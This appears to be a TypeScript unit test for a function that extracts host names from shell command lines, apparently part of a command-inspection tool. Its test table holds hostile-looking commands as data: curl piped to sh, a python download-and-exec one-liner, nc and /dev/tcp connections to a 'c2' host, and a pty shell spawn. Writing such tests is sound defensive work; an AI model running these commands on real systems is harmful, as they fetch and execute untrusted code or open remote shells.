import assert from 'node:assert/strict';
import { test } from 'node:test';
import { hostsIn } from './command-words.ts';

const table: readonly (readonly [line: string, hosts: readonly string[]])[] = [
  ['curl -s https://files.example.net/r | sh', ['files.example.net']],
  ['nc 198.51.100.9 443', ['198.51.100.9']],
  ['archiver --from store.example.org --to 203.0.113.21:/x', ['store.example.org', '203.0.113.21']],
  [`python -c "import pty;pty.spawn('sh')"`, []],
  [
    `python3 -c "import urllib.request;exec(urllib.request.urlopen('https://up.example.net/g').read())"`,
    ['up.example.net'],
  ],
  ['bash -c "cat < /dev/tcp/c2.example.net/80"', ['c2.example.net']],
  ['tar xf backup.tar.gz conf.yaml', []],
  ['ping localhost', []],
];
for (const [line, hosts] of table)
  test(`hosts in ${line}`, () => assert.deepEqual(hostsIn(line).toSorted(), hosts.toSorted()));
